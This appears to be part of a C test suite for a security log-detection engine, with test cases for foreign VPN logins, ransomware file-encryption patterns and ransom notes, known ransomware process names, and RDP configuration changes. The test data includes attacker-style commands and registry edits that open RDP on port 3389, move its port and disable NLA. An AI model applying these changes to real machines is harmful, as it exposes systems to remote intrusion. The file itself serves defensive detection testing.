    if (f) CHECK_STR(f->detail, "JP 198.51.100.7");
    /* a home country that is not a code is refused */
    o.home_country = "Japan";
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_ERR_ARG);
    CHECK(strstr(diag.what, "Japan") != NULL);
    /* a database that is not there: off, no finding, no crash */
    o.home_country = NULL;
    o.geoip = "/nonexistent/country.mmdb";
    memset(&g, 0, sizeof g);
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    ks_detect_begin_file(d, "vpn.log");
    ks_detect_feed(d, vpn_ok(&b, T0, 1, "nurse1", "81.2.69.144"));
    ks_detect_close(&d);
    CHECK_INT(count_of(&g, "vpn_foreign"), 0);
    /* the installed database (scripts/install-deps): 81.2.69.144 is in GB, 133.242.0.1 in
     * JP; skipped when it is absent */
    o.geoip = NULL;
    memset(&g, 0, sizeof g);
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    ks_detect_begin_file(d, "vpn.log");
    ks_detect_feed(d, vpn_ok(&b, T0, 1, "nurse1", "133.242.0.1"));
    ks_detect_feed(d, vpn_ok(&b, T0 + MIN, 2, "nurse1", "81.2.69.144"));
    ks_detect_close(&d);
    char why[512];
    ks_geoip *geo = ks_geoip_open(NULL, why, sizeof why);
    if (!geo) {
        fprintf(stderr, "test_vpn_foreign: GeoIP part skipped: %s\n", why);
        CHECK_INT(count_of(&g, "vpn_foreign"), 0);
        return;
    }
    char cc[3];
    CHECK(ks_geoip_country(geo, S("81.2.69.144"), cc));
    CHECK_STR(cc, "GB");
    CHECK(ks_geoip_country(geo, S("133.242.0.1"), cc));
    CHECK_STR(cc, "JP");
    CHECK(!ks_geoip_country(geo, S("10.0.0.1"), cc));
    CHECK(!ks_geoip_country(geo, S("not an address"), cc));
    CHECK(!ks_geoip_country(geo, S(""), cc));
    ks_geoip_close(&geo);
    CHECK_INT(count_of(&g, "vpn_foreign"), 1);
    f = first_of(&g, "vpn_foreign");
    if (f) {
        CHECK_STR(f->detail, "GB 81.2.69.144");
        CHECK_STR(f->src_ip, "81.2.69.144");
        CHECK_INT(f->count, 1);
    }
}

static ks_event *file_created(evb *b, int64_t t, uint64_t rec, const char *path)
{
    ks_event *e = mk(b, "Microsoft-Windows-Sysmon", 11, t, rec);
    e->channel = S("Microsoft-Windows-Sysmon/Operational");
    e->host = S("FS01");
    e->sem.process = S("C:\\Users\\Public\\svc.exe");
    e->sem.user = S("HOSP\\admin");
    field(b, "TargetFilename", path);
    return e;
}

static void test_ransomware(void)
{
    got g;
    evb b;
    char path[160];
    /* 49 files with ".qwerty" in 5 folders within 5 min: nothing; the 50th: one
     * finding, joined by what follows; the same file twice counts once; common
     * extensions never count */
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "sysmon.evtx");
    for (int i = 0; i < 49; i++) {
        snprintf(path, sizeof path, "D:\\Share\\Ward%d\\chart%d.docx.qwerty", i % 5, i);
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 1 + (uint64_t)i, path));
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 100 + (uint64_t)i, path));
        snprintf(path, sizeof path, "C:\\Windows\\Temp\\x%d.tmp", i);
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 200 + (uint64_t)i, path));
        snprintf(path, sizeof path, "C:\\ProgramData\\App\\f%d\\y%d.dll", i, i);
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 300 + (uint64_t)i, path));
    }
    CHECK_INT(count_of(&g, "ransomware_execution"), 0);
    ks_detect_feed(d, file_created(&b, T0 + 60 * SEC, 400, "D:\\Share\\Ward0\\last.xlsx.QWERTY"));
    ks_detect_feed(d, file_created(&b, T0 + 90 * SEC, 401, "D:\\Share\\Ward9\\more.pdf.qwerty"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "ransomware_execution"), 1);
    const ks_finding *f = first_of(&g, "ransomware_execution");
    if (f) {
        CHECK_INT(f->variant, 0);
        CHECK_INT(f->count, 51);
        CHECK_INT(f->severity, KS_LEVEL_CRITICAL);
        CHECK_STR(f->host, "FS01");
        CHECK_STR(f->detail, ".QWERTY, C:\\Users\\Public\\svc.exe");
        CHECK_INT(f->first_ns, T0);
        CHECK_INT(f->last_ns, T0 + 90 * SEC);
        CHECK(strstr(f->explanation, "one new extension") != NULL);
    }
    ks_detect_close(&d);
    /* 50 files in one folder (a program's own cache): nothing; 50 over 6 minutes: nothing */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "sysmon.evtx");
    for (int i = 0; i < 50; i++) {
        snprintf(path, sizeof path, "C:\\App\\cache\\c%d.blob", i);
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 1 + (uint64_t)i, path));
        snprintf(path, sizeof path, "D:\\Share\\Ward%d\\c%d.enc", i % 5, i);
        ks_detect_feed(d,
                       file_created(&b, T0 + i * 7500 * INT64_C(1000000), 100 + (uint64_t)i, path));
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "ransomware_execution"), 0);
    /* ransom notes: 4 folders: nothing; the 5th: one finding */
    ks_detect_begin_file(d, "sysmon.evtx");
    for (int i = 0; i < 5; i++) {
        snprintf(path, sizeof path, "D:\\Share\\Ward%d\\HOW_TO_DECRYPT.txt", i);
        ks_detect_feed(d, file_created(&b, T0 + i * SEC, 1 + (uint64_t)i, path));
        if (i == 3) CHECK_INT(count_of(&g, "ransomware_execution"), 0);
    }
    /* an ordinary readme in folders elsewhere does not look like a note: no words */
    ks_detect_feed(d, file_created(&b, T0 + 9 * SEC, 9, "C:\\Tools\\notes.txt"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "ransomware_execution"), 1);
    f = first_of(&g, "ransomware_execution");
    if (f) {
        CHECK_INT(f->variant, 1);
        CHECK_INT(f->count, 5);
        CHECK(!strncmp(f->detail, "HOW_TO_DECRYPT.txt", 18));
    }
    ks_detect_close(&d);
    /* 4663 writes: the same, from the Security log; reads do not count */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "security.evtx");
    for (int i = 0; i < 60; i++) {
        ks_event *e = mk(&b, SECURITY, 4663, T0 + i * SEC, 1 + (uint64_t)i);
        snprintf(path, sizeof path, "\\Device\\HarddiskVolume2\\Share\\D%d\\f%d.jpg.lockbit", i % 4,
                 i);
        field(&b, "ObjectType", "File");
        field(&b, "ObjectName", path);
        field(&b, "AccessMask", i < 10 ? "0x1" : "0x6");
        ks_detect_feed(d, e);
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "ransomware_execution"), 1);
    f = first_of(&g, "ransomware_execution");
    if (f) {
        CHECK_INT(f->count, 50);
        CHECK_STR(f->detail, ".lockbit");
    }
    /* known ransomware started */
    memset(&g, 0, sizeof g);
    ks_detect_begin_file(d, "security.evtx");
    ks_event *e = mk(&b, SECURITY, 4688, T0, 1);
    e->sem.process = S("C:\\Users\\admin\\Desktop\\LockBit_3.exe");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0 + SEC, 2);
    e->sem.process = S("C:\\Windows\\System32\\tasksche.exe");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0 + SEC, 3);
    e->sem.process = S("C:\\Windows\\System32\\taskschd.exe");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "ransomware_execution"), 1);
    f = first_of(&g, "ransomware_execution");
    if (f) {
        CHECK_INT(f->variant, 2);
        CHECK_INT(f->count, 2);
        CHECK_STR(f->detail,
                  "C:\\Users\\admin\\Desktop\\LockBit_3.exe, C:\\Windows\\System32\\tasksche.exe");
        CHECK(strstr(f->explanation, "Known ransomware") != NULL);
    }
    ks_detect_close(&d);
}

static void test_rdp_config(void)
{
    got g;
    evb b;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "mixed.evtx");
    /* Sysmon 13: RDP enabled, its port moved; an unrelated value is not */
    ks_event *e = mk(&b, "Microsoft-Windows-Sysmon", 13, T0, 1);
    e->host = S("PACS01");
    field(&b, "TargetObject",
          "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections");
    field(&b, "Details", "DWORD (0x00000000)");
    ks_detect_feed(d, e);
    e = mk(&b, "Microsoft-Windows-Sysmon", 13, T0 + SEC, 2);
    e->host = S("PACS01");
    field(&b, "TargetObject",
          "HKLM\\System\\CurrentControlSet\\Control\\Terminal "
          "Server\\WinStations\\RDP-Tcp\\PortNumber");
    field(&b, "Details", "DWORD (0x0000d431)");
    ks_detect_feed(d, e);
    e = mk(&b, "Microsoft-Windows-Sysmon", 13, T0 + SEC, 3);
    e->host = S("PACS01");
    field(&b, "TargetObject", "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\Other");
    field(&b, "Details", "DWORD (0x00000000)");
    ks_detect_feed(d, e);
    /* 4657 on another host: NLA off */
    e = mk(&b, SECURITY, 4657, T0, 4);
    e->host = S("EMR01");
    e->sem.user = S("admin");
    field(&b, "ObjectName",
          "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal "
          "Server\\WinStations\\RDP-Tcp");
    field(&b, "ObjectValueName", "UserAuthentication");
    field(&b, "NewValue", "0");
    ks_detect_feed(d, e);
    /* command lines: reg add and a firewall rule for RDP; reg query is not a change */
    e = mk(&b, SECURITY, 4688, T0 + 2 * SEC, 5);
    e->host = S("PACS01");
    e->sem.command_line = S("reg query \"HKLM\\System\\CurrentControlSet\\Control\\Terminal "
                            "Server\" /v fDenyTSConnections");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0 + 3 * SEC, 6);
    e->host = S("PACS01");
    e->sem.command_line = S("netsh advfirewall firewall add rule name=\"rdp\" dir=in "
                            "action=allow protocol=TCP localport=3389");
    ks_detect_feed(d, e);
    /* an ordinary firewall rule is not */
    e = mk(&b, SECURITY, 4688, T0 + 4 * SEC, 7);
    e->host = S("PACS01");
    e->sem.command_line = S("netsh advfirewall firewall add rule name=web dir=in localport=443");
    ks_detect_feed(d, e);
    /* the firewall log: a rule that lets 3389 in */
    e = mk(&b, "Microsoft-Windows-Windows Firewall With Advanced Security", 2004, T0 + 5 * SEC, 8);
    e->host = S("PACS01");
    field(&b, "RuleName", "open rdp");
    field(&b, "LocalPorts", "3389");
    field(&b, "Direction", "1");
    field(&b, "Action", "3");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "rdp_config_change"), 2);
    for (int i = 0; i < g.n && i < 64; i++) {
        const ks_finding *f = &g.f[i];
        if (!strcmp(f->host, "PACS01")) {
            CHECK_INT(f->count, 4);
            CHECK_INT(f->severity, KS_LEVEL_HIGH);
            CHECK(!strncmp(f->detail,
                           "fDenyTSConnections = DWORD (0x00000000), PortNumber = DWORD "
                           "(0x0000d431), netsh advfirewall",
                           89));
            CHECK(strstr(f->detail, "firewall rule allows 3389: open rdp") != NULL);
        } else {
            CHECK_STR(f->host, "EMR01");
            CHECK_STR(f->detail, "UserAuthentication = 0");
            CHECK_STR(f->user, "admin");
        }
    }
    ks_detect_close(&d);
}

int main(void)
{
    ks_lang_set("en");
    test_window_edges();
    test_keys();
    test_spray_and_door();
    test_rdp();
    test_logs();
    test_processes();
    test_table();
    test_japanese();
    test_off_duty();
    test_credentials();
    test_commands();
    test_simulate();
    test_vpn_new_source();
    test_share_enumeration();
    test_smb1();
    test_long_session();
    test_vpn_foreign();
    test_ransomware();
    test_rdp_config();
    return ks_test_done();
}
